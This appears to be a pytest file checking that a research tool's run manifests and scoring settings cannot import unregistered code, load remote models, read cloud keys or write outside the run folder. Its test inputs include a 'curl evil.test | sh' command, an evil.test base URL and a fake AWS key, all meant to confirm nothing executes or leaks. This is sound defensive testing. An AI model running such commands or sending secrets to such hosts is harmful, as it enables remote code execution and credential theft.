"""Only registered names in files are imported; opening a folder does not execute code."""

import json
import sys
import warnings

import pytest

from surface_consistency.cli.main import main
from surface_consistency.engine.study import find_study
from surface_consistency.errors import DataError, SurfaceConsistencyError
from surface_consistency.plugins import Plugins, importable
from tests.london import folder, scored  # noqa: F401 - fixtures

EVIL = "evil_names:x"


@pytest.fixture
def evil(tmp_path, monkeypatch):
    """A module on the path that writes a file if it is imported; the test fails in that case."""
    (tmp_path / "evil_names.py").write_text(f"open({str(tmp_path / 'mark')!r}, 'w').close()\nx = 1")
    monkeypatch.syspath_prepend(str(tmp_path))
    yield
    assert not (tmp_path / "mark").exists()
    assert "evil_names" not in sys.modules


def with_unknown_names(value):
    """Replace every text in a value."""
    if isinstance(value, dict):
        return {key: with_unknown_names(item) for key, item in value.items()}
    if isinstance(value, list):
        return [with_unknown_names(item) for item in value]
    return EVIL if isinstance(value, str) or value is None else value


def test_fields_of_a_run_import_only_registered_names(folder, evil):
    n_fields = 0
    report = ["report", str(folder), "--out", str(folder), "--setting", "resamples=1"]
    for name in ("manifest.json", "scoring.json"):
        content = json.loads((folder / name).read_text())
        changes = [{key: with_unknown_names(value)} for key, value in content.items()]
        if name == "scoring.json":
            settings = content["settings"]
            changes += [{"settings": settings | {key: EVIL}} for key in settings]
        for change in changes:
            (folder / name).write_text(json.dumps(content | change))
            n_fields += 1
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                assert main(report) in (0, 2, 3)
                if name == "manifest.json":
                    score = ["score", str(folder), "--setting", "agreement=false", *report[4:]]
                    assert main(score) in (0, 2, 3)
        (folder / name).write_text(json.dumps(content))
    assert n_fields > 30


@pytest.mark.parametrize(
    "words",
    [
        ["score", "{run}"],
        ["score", "--help", "{run}"],
        ["report", "{run}", "--out", "{run}/page"],
        ["analyse", "popularity", "{run}", "--out", "{run}/page"],
        ["export", "{run}", "--out", "{run}/data"],
        ["compare", "{run}", "{run}", "--out", "{run}/pair"],
    ],
)
def test_study_of_a_manifest_must_be_registered(folder, evil, capsys, words):
    manifest = json.loads((folder / "manifest.json").read_text())
    (folder / "manifest.json").write_text(json.dumps(manifest | {"study": EVIL}))
    capsys.readouterr()

    assert main([word.format(run=folder) for word in words]) == 2

    errors = capsys.readouterr().err
    start = f"error: {folder / 'manifest.json'}: study '{EVIL}' not found; available: "
    assert words[0] in ("compare", "analyse") or errors.startswith(start)
    if words[0] not in ("compare", "analyse"):
        assert ". Register it as an entry point of surface_consistency.studies. Without" in errors


OPTIONS = {"trust_remote_code": "true", "base_url": "http://evil.test/v1", "api_key_env": "AWS_KEY"}
STRANGE = OPTIONS | {"judge": "llm", "trust_remote_code": True}
STRANGE |= dict.fromkeys(("labels", "labelling_sheet", "store", "cache", "out"), "outside/x")
for prefix in ("", "judge_", "meaning_", "sense_"):
    STRANGE |= {f"{prefix}model": "evil/model", f"{prefix}runner": "openai"}
    STRANGE |= {f"{prefix}option": OPTIONS, f"{prefix}runner_option": OPTIONS}


@pytest.mark.parametrize("is_published", [False, True])
def test_settings_of_a_run_do_not_load_models_read_keys_or_write_elsewhere(
    folder, tmp_path, monkeypatch, capsys, is_published
):
    """Tests have no network access, so a request would also raise an error."""
    for name in ("manifest.json", "scoring.json"):
        content = json.loads((folder / name).read_text()) | {"command": "curl evil.test | sh"}
        for part in {"settings", "source", "runner", "design", "decoding"} & content.keys():
            content[part] = (content[part] or {}) | STRANGE | {"as_published": is_published}
        (folder / name).write_text(json.dumps(content))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "outside").mkdir()
    monkeypatch.setenv("AWS_KEY", "secret-of-the-cloud")
    monkeypatch.setattr("surface_consistency.models.registry._RUNNERS.load", None)
    commands = [["score", folder], ["accuracy", folder], ["report", folder]]
    commands += [["export", folder, "--out", folder / "data"], ["compare", folder, folder]]

    for words in commands:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            assert main([*map(str, words)]) in (0, 2)

    assert not [*(tmp_path / "outside").iterdir()]
    files = [file for file in folder.rglob("*") if file.is_file()]
    assert not any(b"secret-of-the-cloud" in file.read_bytes() for file in files)
    (folder / "plan.json").unlink()
    capsys.readouterr()
    assert main(["score", str(folder)]) == 2
    errors = capsys.readouterr().err
    assert "repeat the command that made it (`command` in manifest.json)" in errors
    assert "evil" not in errors


def test_code_of_a_model_in_a_manifest_is_not_executed(folder):
    from surface_consistency.engine.report import load_runs
    from surface_consistency.studies.mechanism.analysis import _load
    from surface_consistency.studies.mechanism.settings import MechanismSettings
    from surface_consistency.studies.redirectqa.study import RedirectOutcome

    [run] = load_runs([folder], outcome=RedirectOutcome)
    with pytest.raises(ValueError, match="a manifest may name any model; pass `model` too"):
        _load(run, MechanismSettings(trust_remote_code=True), None)


def test_unregistered_rule_of_a_scoring_does_not_compare_answers(folder, evil, caplog):
    scoring = json.loads((folder / "scoring.json").read_text())
    scoring["settings"]["rule"] = EVIL
    (folder / "scoring.json").write_text(json.dumps(scoring))

    assert main(["report", str(folder), "--out", str(folder), "--setting", "resamples=9"]) == 0

    [errors] = caplog.messages
    assert errors.startswith(f"{folder.resolve() / 'scoring.json'}: settings.rule: matching rule '")
    assert errors.endswith("token_f1 is used instead")


@pytest.mark.parametrize(
    ("study", "record", "given", "message"),
    [
        ("redirectqa", "scoring", {"rule": EVIL}, "matching rule"),
        ("slaq", "scoring", {"judge_rule": EVIL}, "matching rule"),
        ("slaq", "scoring", {"judge_runner": EVIL}, "runner"),
        ("lexical", "scoring", {"meaning_runner": EVIL}, "runner"),
    ],
)
def test_settings_with_unregistered_names_raise(evil, study, record, given, message):
    with pytest.raises(ValueError, match=f"{message} '{EVIL}' not found; available: .* command l"):
        getattr(find_study(study).records, record)(**given)


def test_encoder_in_settings_is_not_imported(evil):
    study = find_study("linking")
    data = study.load(study.records.source(source="sample"))

    message = rf"got '{EVIL}' \(encoder of names '{EVIL}'"
    with pytest.raises(DataError, match=message):
        study.plan(data, study.records.settings(neighbours=EVIL))


def test_names_of_a_command_are_importable_only_during_the_command():
    rules = Plugins("surface_consistency.rules", "rule")
    name = "surface_consistency.matching:ExactRule"
    with importable(f"--rule={name}", "not a name"):
        assert rules.load(name).__name__ == "ExactRule"
    with pytest.raises(SurfaceConsistencyError, match=f"rule '{name}' not found; .*es must be reg"):
        rules.load(name)
